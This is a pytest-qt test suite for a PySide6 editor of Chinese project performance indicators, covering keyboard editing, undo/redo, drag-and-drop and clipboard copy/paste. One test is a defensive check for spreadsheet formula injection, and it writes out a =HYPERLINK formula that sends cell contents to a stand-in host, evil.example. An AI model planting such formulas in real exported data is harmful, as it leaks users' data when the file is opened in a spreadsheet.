"""The indicator tree editor driven like a clerk does: keyboard, typing, undo/redo, drag and drop, copy and paste."""

from __future__ import annotations

import html
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtCore import QModelIndex, Qt
from PySide6.QtGui import QFont, QFontDatabase, QGuiApplication, QInputMethodEvent, QUndoStack
from PySide6.QtWidgets import QAbstractItemView, QApplication, QLineEdit
from pytestqt.qtbot import QtBot

from desktop.domain.model import Indicator, Project
from desktop.domain.operations import EditIndicator, InsertIndicator
from desktop.domain.parts import IndicatorField
from desktop.io.demo import demo_workbook
from desktop.resources import resource_path
from desktop.templates.catalog import get_layout
from desktop.ui.document import WorkbookDocument
from desktop.ui.indicators.editor import IndicatorEditor
from desktop.ui.indicators.model import GroupKey
from desktop.ui.indicators.value_hint import describe_value

QTY = GroupKey("产出指标", "数量指标")
QUALITY = GroupKey("产出指标", "质量指标")
TIMING = GroupKey("产出指标", "时效指标")
CTRL = Qt.KeyboardModifier.ControlModifier


def sample_project() -> Project:
    rows = [
        Indicator("产出指标", "数量指标", "资助参保人次", ">70000 人"),
        Indicator("产出指标", "数量指标", "救助人次", "≥150000 人次"),
        Indicator("产出指标", "质量指标", "救助比例", "≥75%"),
        Indicator("产出指标", "质量指标", "保障质量", "及时足额保障"),
        Indicator("效益指标", "社会效益指标", "就医负担减轻程度", "明显提高"),
        Indicator("满意度指标", "服务对象满意度指标", "服务对象满意度", "≥90%"),
    ]
    return Project(year=2024, template="ah-project", name="城乡医疗救助", indicators=rows)


def names(project: Project) -> list[str | None]:
    return [i.name for i in project.indicators]


@pytest.fixture(scope="module", autouse=True)
def chinese_font(qapp: QApplication) -> Iterator[None]:
    font_id = QFontDatabase.addApplicationFont(str(resource_path("fonts", "wqy-microhei.ttc")))
    assert font_id >= 0
    previous = qapp.font()
    qapp.setFont(QFont(QFontDatabase.applicationFontFamilies(font_id)[0], 10))
    yield
    qapp.setFont(previous)


@pytest.fixture
def project(editor: IndicatorEditor) -> Project:
    project = sample_project()
    editor.set_project(project, get_layout("ah-project"))
    return project


def go(editor: IndicatorEditor, key: GroupKey, row: int, column: int = 0) -> None:
    index = editor.model().leaf_index(key, row, column)
    assert index.isValid()
    editor.view().setCurrentIndex(index)


def open_editor(editor: IndicatorEditor) -> QLineEdit:
    widget = editor.view().indexWidget(editor.view().currentIndex())
    assert isinstance(widget, QLineEdit), "no cell editor is open"
    return widget


def press_enter(qtbot: QtBot, editor: IndicatorEditor, line: QLineEdit) -> None:
    """Enter in a cell editor: it commits at once and the editor closes."""
    qtbot.keyClick(line, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: editor.view().state() != QAbstractItemView.State.EditingState)


def type_chinese(line: QLineEdit, text: str) -> None:
    """What an input method does: commit a string (qtbot.keyClicks cannot type Chinese)."""
    event = QInputMethodEvent()
    event.setCommitString(text)
    QApplication.sendEvent(line, event)


def test_insert_and_enter_add_rows_that_are_typed_into(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack
) -> None:
    go(editor, QTY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_Insert)
    name_editor = open_editor(editor)  # the new row's name is being edited at once
    type_chinese(name_editor, "住院救助人次")
    qtbot.keyClick(name_editor, Qt.Key.Key_Tab)  # commits and opens the 指标值 cell
    value_editor = open_editor(editor)
    assert editor.view().currentIndex().column() == 1
    qtbot.keyClicks(value_editor, ">=5000")
    assert value_editor.text() == "≥5000"  # the sign the form prints, as typed
    qtbot.keyClick(value_editor, Qt.Key.Key_Return)  # one Enter: committed, and on to the next row's 指标值
    assert project.indicators[1] == Indicator("产出指标", "数量指标", "住院救助人次", "≥5000")
    assert [stack.text(i) for i in range(stack.count())] == ["新增三级指标", "修改三级指标", "修改指标值"]
    assert editor.view().state() != QAbstractItemView.State.EditingState
    assert editor.model().position(editor.view().currentIndex()) == (QTY, 2)
    assert editor.view().currentIndex().column() == 1

    # Enter on the last column (editor closed) adds a row below and starts on its name.
    go(editor, QTY, 1, 1)
    qtbot.keyClick(editor.view(), Qt.Key.Key_Return)
    assert editor.model().position(editor.view().currentIndex()) == (QTY, 2)
    open_editor(editor).setText("门诊救助人次")
    press_enter(qtbot, editor, open_editor(editor))
    assert names(project)[:4] == ["资助参保人次", "住院救助人次", "门诊救助人次", "救助人次"]

    stack.undo()  # the name
    assert names(project)[:4] == ["资助参保人次", "住院救助人次", None, "救助人次"]
    stack.undo()  # the row
    assert names(project)[:3] == ["资助参保人次", "住院救助人次", "救助人次"]
    stack.undo()  # the value, in one step although typed in six keystrokes
    assert project.indicators[1].value is None
    stack.undo()
    stack.undo()
    assert project.indicators == sample_project().indicators
    while stack.canRedo():
        stack.redo()
    assert names(project)[:4] == ["资助参保人次", "住院救助人次", "门诊救助人次", "救助人次"]
    assert project.indicators[1].value == "≥5000"


def test_insert_on_a_category_row_adds_its_first_child(qtbot: QtBot, editor: IndicatorEditor, project: Project) -> None:
    editor.view().setCurrentIndex(editor.model().group_index(TIMING))
    qtbot.keyClick(editor.view(), Qt.Key.Key_Insert)
    assert project.indicators[4] == Indicator("产出指标", "时效指标")
    assert editor.model().position(editor.view().currentIndex()) == (TIMING, 0)


def test_ctrl_up_down_move_within_and_across_level2(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack
) -> None:
    go(editor, QTY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_Down, CTRL)
    assert names(project)[:2] == ["救助人次", "资助参保人次"]
    assert stack.undoText() == "下移指标"
    qtbot.keyClick(editor.view(), Qt.Key.Key_Down, CTRL)  # last of 数量指标: into 质量指标, first
    assert names(project)[:3] == ["救助人次", "资助参保人次", "救助比例"]
    assert project.indicators[1] == Indicator("产出指标", "质量指标", "资助参保人次", ">70000 人")
    assert stack.undoText() == "移动指标到“质量指标”"
    assert editor.model().position(editor.view().currentIndex()) == (QUALITY, 0)  # the cursor follows the row
    go(editor, QUALITY, 2)  # 保障质量, last of 质量指标: down goes into 时效指标 although it is empty
    qtbot.keyClick(editor.view(), Qt.Key.Key_Down, CTRL)
    assert editor.model().position(editor.view().currentIndex()) == (TIMING, 0)
    go(editor, TIMING, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_Up, CTRL)
    assert project.indicators[3] == Indicator("产出指标", "质量指标", "保障质量", "及时足额保障")

    assert project.indicators[3].level2 == "质量指标"
    stack.undo()
    assert project.indicators[3].level2 == "时效指标"
    stack.undo()
    stack.undo()
    assert project.indicators[1] == Indicator("产出指标", "数量指标", "资助参保人次", ">70000 人")
    stack.undo()
    assert project.indicators == sample_project().indicators
    stack.redo()
    stack.redo()
    assert project.indicators[1] == Indicator("产出指标", "质量指标", "资助参保人次", ">70000 人")


def test_delete_removes_selected_rows_and_undo_restores_them(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack
) -> None:
    go(editor, QTY, 1)
    selection = editor.view().selectionModel()
    flags = selection.SelectionFlag.Select | selection.SelectionFlag.Rows
    selection.select(editor.model().leaf_index(QUALITY, 1), flags)
    qtbot.keyClick(editor.view(), Qt.Key.Key_Delete)
    assert names(project) == ["资助参保人次", "救助比例", "就医负担减轻程度", "服务对象满意度"]
    assert stack.undoText() == "删除 2 条三级指标"
    stack.undo()
    assert project.indicators == sample_project().indicators
    stack.redo()
    assert len(project.indicators) == 4


def test_category_rows_are_never_deleted(qtbot: QtBot, editor: IndicatorEditor, project: Project) -> None:
    editor.view().setCurrentIndex(editor.model().group_index(QTY))
    qtbot.keyClick(editor.view(), Qt.Key.Key_Delete)
    assert project.indicators == sample_project().indicators
    assert editor.model().group_index(QTY).isValid()


def test_tab_walks_the_editable_cells_and_wraps(qtbot: QtBot, editor: IndicatorEditor, project: Project) -> None:
    view = editor.view()
    go(editor, QTY, 1, 0)
    qtbot.keyClick(view, Qt.Key.Key_Tab)
    assert (editor.model().position(view.currentIndex()), view.currentIndex().column()) == ((QTY, 1), 1)
    qtbot.keyClick(open_editor(editor), Qt.Key.Key_Tab)  # from the last column: next row, skipping 质量指标's row
    assert (editor.model().position(view.currentIndex()), view.currentIndex().column()) == ((QUALITY, 0), 0)
    assert open_editor(editor).text() == "救助比例"
    qtbot.keyClick(open_editor(editor), Qt.Key.Key_Backtab)
    assert (editor.model().position(view.currentIndex()), view.currentIndex().column()) == ((QTY, 1), 1)
    qtbot.keyClick(open_editor(editor), Qt.Key.Key_Escape)
    assert project.indicators == sample_project().indicators  # walking past cells changes nothing


def test_f2_edits_and_escape_cancels(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack
) -> None:
    go(editor, QUALITY, 0, 1)
    qtbot.keyClick(editor.view(), Qt.Key.Key_F2)
    line = open_editor(editor)
    line.selectAll()
    qtbot.keyClicks(line, "=100%")
    qtbot.keyClick(line, Qt.Key.Key_Escape)
    assert project.indicators[2].value == "≥75%"
    assert stack.count() == 0


def test_value_hint_follows_every_keystroke(qtbot: QtBot, editor: IndicatorEditor, project: Project) -> None:
    go(editor, QTY, 0, 1)
    qtbot.keyClick(editor.view(), Qt.Key.Key_F2)
    line = open_editor(editor)
    line.clear()
    qtbot.keyClicks(line, "<=25")
    assert line.text() == "≤25"  # typed `<=` becomes the sign the form prints
    assert editor.hint_text() == "读作：≤ 25（定量，反向）"
    line.setText("<=25")  # pasted as is: read, with a word about the sign
    assert editor.hint_text() == "读作：≤ 25（定量，反向）\n符号不规范，将按 ≤ 读取"
    line.setText("≤25")
    line.end(False)
    qtbot.keyClicks(line, "00")
    assert editor.hint_text().startswith("读作：≤ 2500（定量，反向）")
    line.setText("≥150000 人次")
    assert editor.hint_text() == "读作：≥ 150000 人次（定量，正向）"
    line.clear()
    type_chinese(line, "有效提升")
    assert editor.hint_text() == "读作：定性指标"
    line.setText("2024 年 12 月 31 日前")
    assert editor.hint_text() == "读作：时间 2024年12月31日（前）"
    line.setText("１按时完成")
    assert "像是多余的字符" in editor.hint_text()


def test_describe_value_readings() -> None:
    assert describe_value("≤4.5 万元/人/年") == ("读作：≤ 4.5 万元/人/年（定量，反向）", None)
    assert describe_value("134 元/人")[0] == "读作：134 元/人（定量，未写比较符号）"
    assert describe_value("《=2500万") == ("读作：≤ 2500 万（定量，反向）", "符号不规范，将按 ≤ 读取")
    assert describe_value("12 月底前")[0] == "读作：时间 12月（底前）"
    assert describe_value("  ")[0].startswith("读作：（空）")


def test_drag_and_drop_moves_rows_through_the_undo_stack(
    editor: IndicatorEditor, project: Project, stack: QUndoStack
) -> None:
    model = editor.model()
    data = model.mimeData([model.leaf_index(QUALITY, 1)])
    move = Qt.DropAction.MoveAction
    assert not model.canDropMimeData(data, move, 0, 0, model.index(0, 0))  # 一级 产出指标
    assert model.dropMimeData(data, move, 0, 0, model.group_index(QTY))
    assert names(project)[:3] == ["保障质量", "资助参保人次", "救助人次"]
    assert project.indicators[0].level2 == "数量指标"
    assert stack.undoText() == "移动指标到“数量指标”"
    stack.undo()
    assert project.indicators == sample_project().indicators
    stack.redo()
    assert names(project)[0] == "保障质量"


def test_copy_then_paste_round_trips(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    messages: list[str] = []
    monkeypatch.setattr(editor, "show_message", lambda title, text: messages.append(text))
    go(editor, QTY, 0)
    selection = editor.view().selectionModel()
    selection.select(
        editor.model().leaf_index(QUALITY, 0), selection.SelectionFlag.Select | selection.SelectionFlag.Rows
    )
    qtbot.keyClick(editor.view(), Qt.Key.Key_C, CTRL)
    copied = QGuiApplication.clipboard().text()
    assert copied.splitlines() == [
        "一级指标\t二级指标\t三级指标\t指标值",
        "产出指标\t数量指标\t资助参保人次\t>70000 人",
        "产出指标\t质量指标\t救助比例\t≥75%",
    ]
    go(editor, QTY, 1)
    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
    assert names(project) == [
        "资助参保人次", "救助人次", "资助参保人次", "救助比例", "保障质量", "救助比例",
        "就医负担减轻程度", "服务对象满意度",
    ]  # fmt: skip
    assert project.indicators[5] == Indicator("产出指标", "质量指标", "救助比例", "≥75%")
    assert stack.undoText() == "粘贴 2 条指标"
    assert messages == []
    stack.undo()
    assert project.indicators == sample_project().indicators


def test_paste_without_categories_goes_under_the_current_level2(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    messages: list[str] = []
    monkeypatch.setattr(editor, "show_message", lambda title, text: messages.append(text))
    QGuiApplication.clipboard().setText("结算及时率\t≥98%\n")
    go(editor, QUALITY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
    assert project.indicators[3] == Indicator("产出指标", "质量指标", "结算及时率", "≥98%")
    assert messages == []


def test_rows_that_fit_nowhere_are_listed_in_a_message(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    messages: list[str] = []
    monkeypatch.setattr(editor, "show_message", lambda title, text: messages.append(text))
    QGuiApplication.clipboard().setText(
        "产出指标\t数量指标\t培训人次\t≥300 人次\n项目完成指标\t效率指标\t办理时长\t≤5 天\n"
    )
    go(editor, QTY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
    assert "培训人次" in names(project)
    assert "办理时长" not in names(project)
    assert len(messages) == 1
    assert "已粘贴 1 条指标" in messages[0] and "办理时长" in messages[0] and "效率指标" in messages[0]


def test_select_indicator_jumps_to_the_row_and_column(editor: IndicatorEditor, project: Project) -> None:
    editor.select_indicator(4, "value")
    current = editor.view().currentIndex()
    assert current.data() == "明显提高"
    assert editor.model().flat_index(current) == 4
    editor.select_indicator(2)
    assert editor.view().currentIndex().data() == "救助比例"


def test_a_change_from_elsewhere_keeps_collapsed_rows_and_the_selected_indicator(
    editor: IndicatorEditor, project: Project, document: WorkbookDocument
) -> None:
    view, model = editor.view(), editor.model()
    view.collapse(model.group_index(QTY))
    editor.select_indicator(3)
    resets: list[int] = []
    model.modelReset.connect(lambda: resets.append(1))
    # A row arriving from outside the tree (a fix, a paste elsewhere): the model inserts one row, never resets.
    document.push(InsertIndicator(project, 0, Indicator("产出指标", "数量指标", "新增的行", "≥1 个")))
    document.push(EditIndicator(project, 4, IndicatorField.VALUE, "≥85%"))
    assert resets == []
    assert not view.isExpanded(model.group_index(QTY))
    assert view.isExpanded(model.group_index(QUALITY))
    assert view.currentIndex().data() == "保障质量"
    assert model.leaf_index(QTY, 0).data() == "新增的行"
    assert model.leaf_index(QUALITY, 1, 1).data() == "≥85%"


def test_the_tree_follows_undo_of_its_own_edits(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack
) -> None:
    seen: list[int] = []
    editor.model().rows_changed.connect(lambda: seen.append(1))
    go(editor, QTY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_Delete)
    assert editor.model().leaf_index(QTY, 0).data() != "资助参保人次"
    stack.undo()
    assert len(seen) == 2
    assert editor.model().leaf_index(QTY, 0).data() == "资助参保人次"


def test_out_of_frame_rows_are_shown_but_take_no_new_rows(
    qtbot: QtBot, editor: IndicatorEditor, stack: QUndoStack
) -> None:
    project = sample_project()
    project.indicators.append(Indicator("产出指标", "效率指标", "办理时长", "≤5 天"))
    editor.set_project(project, get_layout("ah-project"))
    odd = GroupKey("产出指标", "效率指标")
    go(editor, odd, 0)
    assert "不属于本版式的指标框架" in editor.hint_text()
    assert not editor.add_action.isEnabled()
    qtbot.keyClick(editor.view(), Qt.Key.Key_Insert)
    assert stack.count() == 0
    qtbot.keyClick(editor.view(), Qt.Key.Key_Up, CTRL)  # out of it, into the frame: allowed
    assert project.indicators[-1].level2 != "效率指标"
    assert len(project.indicators) == 7


def test_read_only_blocks_every_change(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack
) -> None:
    editor.set_read_only(True)
    go(editor, QTY, 0)
    for key, modifier in (
        (Qt.Key.Key_Insert, Qt.KeyboardModifier.NoModifier),
        (Qt.Key.Key_Delete, Qt.KeyboardModifier.NoModifier),
        (Qt.Key.Key_Down, CTRL),
    ):
        qtbot.keyClick(editor.view(), key, modifier)
    assert stack.count() == 0
    assert not editor.model().flags(editor.view().currentIndex()) & Qt.ItemFlag.ItemIsEditable


def test_set_project_none_clears(editor: IndicatorEditor, project: Project) -> None:
    editor.set_project(None, None)
    assert editor.model().rowCount(QModelIndex()) == 0
    assert not editor.add_action.isEnabled()


@pytest.mark.parametrize(("index", "layout_id"), [(0, "ah-project"), (11, "hb-project")])
def test_screenshot(qtbot: QtBot, editor: IndicatorEditor, index: int, layout_id: str) -> None:
    project = demo_workbook().projects[index]
    assert project.template == layout_id
    editor.set_project(project, get_layout(layout_id))
    editor.select_indicator(1, "value")
    editor.view().edit(editor.view().currentIndex())
    open_editor(editor).setText("《=2500万")
    path = f"/tmp/indicator-editor-{layout_id}.png"
    assert editor.grab().save(path)
    assert "符号不规范" in editor.hint_text()


def test_tab_from_a_category_row_enters_the_first_cell_below_it(
    qtbot: QtBot, editor: IndicatorEditor, project: Project
) -> None:
    view, model = editor.view(), editor.model()
    view.collapse(model.group_index(QTY))
    view.setCurrentIndex(model.index(0, 0))  # 一级 产出指标
    qtbot.keyClick(view, Qt.Key.Key_Tab)
    assert (model.position(view.currentIndex()), view.currentIndex().column()) == ((QTY, 0), 0)
    assert open_editor(editor).text() == "资助参保人次"
    qtbot.keyClick(open_editor(editor), Qt.Key.Key_Escape)
    view.setCurrentIndex(model.group_index(QUALITY))
    qtbot.keyClick(view, Qt.Key.Key_Backtab)
    assert (model.position(view.currentIndex()), view.currentIndex().column()) == ((QTY, 1), 1)


def test_insert_on_a_level1_row_adds_under_its_first_level2(
    qtbot: QtBot, editor: IndicatorEditor, project: Project
) -> None:
    editor.view().setCurrentIndex(editor.model().index(1, 0))  # 效益指标
    qtbot.keyClick(editor.view(), Qt.Key.Key_Insert)
    assert project.indicators[4] == Indicator("效益指标", "经济效益指标")


def test_move_to_menu_moves_the_selected_rows(editor: IndicatorEditor, project: Project, stack: QUndoStack) -> None:
    go(editor, QTY, 0)
    selection = editor.view().selectionModel()
    selection.select(editor.model().leaf_index(QTY, 1), selection.SelectionFlag.Select | selection.SelectionFlag.Rows)
    menu = editor.move_to_action.menu()
    menu.aboutToShow.emit()  # what opening the 移到… menu does
    target = next(a for a in menu.actions() if a.text() == "效益指标 › 社会效益指标")
    target.trigger()
    assert names(project)[:4] == ["救助比例", "保障质量", "就医负担减轻程度", "资助参保人次"]
    assert project.indicators[4] == Indicator("效益指标", "社会效益指标", "救助人次", "≥150000 人次")
    assert stack.undoText() == "移动 2 条指标到“社会效益指标”"
    stack.undo()
    assert project.indicators == sample_project().indicators


def test_undo_of_a_move_restores_the_row_exactly(qtbot: QtBot, editor: IndicatorEditor, stack: QUndoStack) -> None:
    project = sample_project()
    editor.set_project(project, get_layout("ah-project"))
    satisfaction = GroupKey("满意度指标", "满意度指标")
    go(editor, satisfaction, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_Up, CTRL)
    assert project.indicators[-1] == Indicator("效益指标", "可持续影响指标", "服务对象满意度", "≥90%")
    stack.undo()  # its own 二级 is empty now, yet the row gets back the alias it was written with
    assert project.indicators[-1] == Indicator("满意度指标", "服务对象满意度指标", "服务对象满意度", "≥90%")


def test_paste_naming_only_a_level1_goes_under_its_first_level2(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    messages: list[str] = []
    monkeypatch.setattr(editor, "show_message", lambda title, text: messages.append(text))
    QGuiApplication.clipboard().setText("一级指标\t二级指标\t三级指标\t指标值\n效益指标\t\t群众负担减轻\t明显减轻\n")
    go(editor, QUALITY, 0)  # the current row is under 产出指标: it must not pull the row over
    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
    economic = GroupKey("效益指标", "经济效益指标")
    pasted = Indicator("效益指标", "经济效益指标", "群众负担减轻", "明显减轻")
    assert pasted in project.indicators
    assert editor.model().indicator_at(editor.view().currentIndex()) == pasted
    assert editor.model().position(editor.view().currentIndex()) == (economic, 0)
    assert [i for i in project.indicators if i.level1 == "产出指标"] == sample_project().indicators[:4]
    assert messages == []


def test_paste_naming_the_current_level1_stays_in_the_current_level2(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(editor, "show_message", lambda title, text: pytest.fail(text))
    QGuiApplication.clipboard().setText("一级指标\t二级指标\t三级指标\t指标值\n产出指标\t\t合格率\t≥95%\n")
    go(editor, QUALITY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
    assert project.indicators[3] == Indicator("产出指标", "质量指标", "合格率", "≥95%")


def test_paste_naming_an_unknown_level1_is_refused_with_its_name(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    messages: list[str] = []
    monkeypatch.setattr(editor, "show_message", lambda title, text: messages.append(text))
    QGuiApplication.clipboard().setText("一级指标\t二级指标\t三级指标\t指标值\n项目完成指标\t\t办理时长\t≤5 天\n")
    go(editor, QUALITY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
    assert project.indicators == sample_project().indicators
    assert len(messages) == 1 and "“项目完成指标”不是本版式的一级指标" in messages[0]


def test_copy_puts_formula_like_values_on_the_clipboard_as_text(
    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 17, item 10: Excel/WPS evaluate pasted "=HYPERLINK(…)"; the HTML flavour types every cell as text."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    project.indicators[0] = replace(project.indicators[0], name="@SUM(A1:A9)", value=hostile)
    editor.set_project(project, get_layout("ah-project"))
    go(editor, QTY, 0)
    qtbot.keyClick(editor.view(), Qt.Key.Key_C, CTRL)
    data = QGuiApplication.clipboard().mimeData()
    assert data.hasHtml() and data.hasText()
    page = data.html()
    assert "<table>" in page and 'x:str style="mso-number-format:' in page and "\\@" in page
    assert html.escape(hostile) in page and hostile not in page  # escaped: the markup cannot be broken out of
    cells = re.findall(r"<td x:str[^>]*>(.*?)</td>", page)
    assert cells[:4] == ["产出指标", "数量指标", "@SUM(A1:A9)", html.escape(hostile)]
    assert data.text().splitlines()[1] == f"产出指标\t数量指标\t'@SUM(A1:A9)\t'{hostile}"
    # Pasting our own copy back restores the values without the apostrophes.
    messages: list[str] = []
    monkeypatch.setattr(editor, "show_message", lambda title, text: messages.append(text))
    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
    assert project.indicators[1] == project.indicators[0] and project.indicators[1].value == hostile
    assert messages == []


def test_a_program_that_copied_rows_exits_cleanly(tmp_path: Path) -> None:
    """Qt crashed at exit (SIGSEGV) deleting the copied rows' QMimeData; the plain text is left instead."""
    code = (
        "from PySide6.QtWidgets import QApplication\n"
        "from desktop.io.demo import demo_workbook\n"
        "from desktop.templates.catalog import get_layout\n"
        "from desktop.ui.indicators.clipboard import put_rows_on_clipboard\n"
        "app = QApplication([])\n"
        "project = demo_workbook().projects[0]\n"
        "put_rows_on_clipboard(project.indicators[:2], get_layout(project.template))\n"
        "print(QApplication.clipboard().mimeData().hasHtml())\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert done.returncode == 0 and done.stdout.strip() == "True", (done.returncode, done.stderr[-500:])
